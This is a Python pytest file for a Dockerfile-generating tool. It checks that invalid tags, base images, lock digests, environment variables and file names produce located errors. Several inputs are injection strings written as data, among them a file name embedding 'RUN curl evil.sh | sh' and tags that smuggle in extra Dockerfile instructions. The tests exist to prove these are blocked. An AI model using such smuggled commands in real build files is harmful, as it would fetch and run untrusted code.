"""Every field around the axes validated: tags, base images, lock pins, environment, sizes,
booleans and the matrix file's own name. Each is a located problem, never a crash."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from imagekit.errors import SpecError
from imagekit.locks.pinned import load_cells
from imagekit.render.dockerfile import render

CELL = "  - {cuda: cpu, torch: '2.13.0', python: '3.11', os: debian12, flavor: slim"
WriteEnv = Callable[..., Path]


def problems_of(folder: Path) -> list[str]:
    with pytest.raises(SpecError) as caught:
        load_cells([folder])
    return caught.value.problems


@pytest.mark.parametrize(
    ("tag", "words"),
    [
        ("a,b", "not a valid Docker tag"),
        ("a b", "not a valid Docker tag"),
        ("x:{torch}", "not a valid Docker tag"),
        ("../{torch}", "not a valid Docker tag"),
        ("{torch", "does not render"),
        ("{torch}\\nRUN evil", "not a valid Docker tag"),
        ("x" * 129, "not a valid Docker tag"),
        ("{cuda.real}", "does not render"),
    ],
)
def test_every_rendered_tag_is_a_valid_docker_tag(
    write_env: WriteEnv, tag: str, words: str
) -> None:
    folder = write_env(f'tag: "{tag}"\nmatrix:\n{CELL}}}\n')
    found = "\n".join(problems_of(folder))
    assert words in found and "internal error" not in found


@pytest.mark.parametrize(
    ("base", "ok"),
    [
        ("builder", False),
        ("os-base", False),
        ("scratch", False),
        ("x@sha256:x", False),
        ("x AS evil AS os-base", False),
        ("Debian:12", False),  # upper case names are invalid
        ("debian:Bookworm-SLIM", True),  # upper case tags are valid
        ("registry.example.com:5000/team/base:1", True),
        ("ghcr.io/acme/base@sha256:" + "ab" * 32, True),
    ],
)
def test_base_is_parsed_by_the_reference_grammar(write_env: WriteEnv, base: str, ok: bool) -> None:
    folder = write_env(f"matrix:\n{CELL}, base: '{base}'}}\n")
    if ok:
        assert load_cells([folder])[0].runtime_image == base
    else:
        assert any("base" in p for p in problems_of(folder))


def test_lock_pins_are_real_digests(write_env: WriteEnv) -> None:
    folder = write_env(f"matrix:\n{CELL}}}\n")
    (folder / "images.lock").write_text(
        json.dumps({"images": {"debian:bookworm-slim": "sha256:x AS evil AS os-base"}})
    )
    (problem,) = problems_of(folder)
    assert "must be sha256: and 64 hex digits" in problem


@pytest.mark.parametrize(
    ("env", "words"),
    [
        ("PATH: /tmp", "the venv's bin must come first"),
        ("LD_PRELOAD: /x.so", "loaded into every process"),
        ("OMP_NUM_THREADS: '8'", "computed at start"),
        ("IMAGEKIT_LABELS: x", "imagekit's own"),
        ("VIRTUAL_ENV: /venv", "/opt/venv"),
        ('A: "x\\0y"', "control character U+0000"),
        ('A: "x\\u2028y"', "U+2028"),
        ('A: "x\\x85y"', "U+0085"),
        ('A: "\\e[31mred"', "U+001B"),
        (f"A: '{'x' * 20000}'", "may have 16384"),
    ],
)
def test_environment_names_and_values(write_env: WriteEnv, env: str, words: str) -> None:
    folder = write_env(f"matrix:\n{CELL}}}\ndefaults:\n  env:\n    {env}\n")
    assert any(words in p for p in problems_of(folder))


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("-5GB", "expected a size with a unit"),
        ("0GB", "more than 0"),
        ('"1.5"', "expected a size with a unit"),
        ("true", "expected a size with a unit"),
        ("-1", "more than 0"),
    ],
)
def test_size_budget_is_strict(write_env: WriteEnv, value: str, words: str) -> None:
    folder = write_env(f"matrix:\n{CELL}}}\ndefaults:\n  size_budget: {value}\n")
    assert any(words in p for p in problems_of(folder))


def test_booleans_are_strict(write_env: WriteEnv) -> None:
    folder = write_env(f'matrix:\n{CELL}}}\ndefaults:\n  tf32: "yes"\n  compile: 1\n')
    found = problems_of(folder)
    assert any("tf32" in p for p in found) and any("compile" in p for p in found)


def test_the_matrix_file_name_cannot_start_an_instruction(tmp_path: Path) -> None:
    folder = tmp_path / "envs"
    folder.mkdir()
    (folder / "m\nRUN curl evil.sh | sh\n.yaml").write_text(f"matrix:\n{CELL}}}\n")
    (cell,) = load_cells([folder])
    text = render(cell)
    assert not any(line.startswith("RUN curl") for line in text.splitlines())
    assert "m\\nRUN curl evil.sh | sh\\n.yaml" in text


def test_a_base_override_keeps_nvcc_for_flash_attn(write_env: WriteEnv) -> None:
    folder = write_env(
        "matrix:\n  - {cuda: '12.6', torch: '2.7.1', python: '3.12', os: ubuntu24.04, "
        "flavor: nvidia, features: [flash-attn], base: 'registry.example.com/cuda-rt:12.6'}\n"
    )
    (cell,) = load_cells([folder])
    assert cell.runtime_image == "registry.example.com/cuda-rt:12.6"
    assert cell.builder_image == "nvidia/cuda:12.6.3-devel-ubuntu24.04"
